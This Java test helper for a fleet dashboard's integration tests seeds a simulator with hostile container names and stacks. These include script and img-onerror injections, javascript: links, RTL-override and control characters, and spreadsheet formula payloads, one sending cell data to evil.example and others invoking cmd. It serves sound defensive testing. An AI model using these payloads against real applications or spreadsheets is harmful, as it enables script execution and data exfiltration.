package it.io.fleetdashboard.hostile;

import it.io.fleetdashboard.Api;
import jakarta.json.JsonObject;
import jakarta.json.JsonValue;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;

/**
 * The simulator's hostile world (setting "hostile"): containers on sim-1's first endpoint whose names, labels, env,
 * stacks, networks, image tags and log lines carry markup, quotes, control characters, RTL overrides, a
 * 10,000-character name and formulas. Every payload that would run sets window.__pwned or adds an element with id
 * "pwned". Tests turn it on for their class and off again in their @AfterAll, whatever happened.
 */
final class HostileWorld {

    /** The container names (the simulator's Hostile.NAMES, written out: the test is black-box). */
    static final String LONG_NAME = "long-" + "x".repeat(9_995);
    static final List<String> NAMES = List.of(
            "<script>window.__pwned=1</script>",
            "\"><img id=\"pwned\" src=x onerror=\"window.__pwned=1\">",
            "quote'\"`-);window.__pwned=1;//",
            "ctl-\u0001\u0007\u0008\u000b\u000c\u001b[31mred\u001b[0m\u007f-end",
            "rtl-\u202egnp.exe",
            LONG_NAME,
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+cmd|' /C calc'!A0",
            "-1+1",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "javascript:window.__pwned=1",
            "[click](javascript:window.__pwned=1)");
    static final List<String> STACKS = List.of("<b id=\"pwned\">stack</b>", "=1+1 stack",
            "stack-\u202eltr-" + "y".repeat(300));
    static final String MARKER = "fleet.example/hostile";

    private HostileWorld() {
    }

    static void on() {
        Api.simulator("config", "{\"hostile\":true}");
        Api.refresh();
        if (hostileContainers().size() != NAMES.size()) {
            throw new AssertionError("the hostile containers did not arrive: " + hostileContainers().size());
        }
    }

    /** Back to the default world, hostile off: called from @AfterAll, so also after a failure. */
    static void off() {
        Api.simulator("config", "{\"hostile\":false}");
        Api.healthyFleet();
    }

    /** The hostile containers as /api/v1/containers lists them (found by their marker label). */
    static List<JsonObject> hostileContainers() {
        return Api.object("/api/v1/containers?includeStopped=true&limit=1000&search="
                + URLEncoder.encode(MARKER + "=1", StandardCharsets.UTF_8)).getJsonArray("items").stream()
                .map(JsonValue::asJsonObject).toList();
    }

    /** The key of the hostile container with that name. */
    static String key(String name) {
        return hostileContainers().stream().filter(c -> c.getString("name").equals(name)).findFirst()
                .orElseThrow(() -> new AssertionError("no hostile container " + name.substring(0,
                        Math.min(40, name.length())))).getString("key");
    }

    static String enc(String s) {
        return URLEncoder.encode(s, StandardCharsets.UTF_8);
    }
}
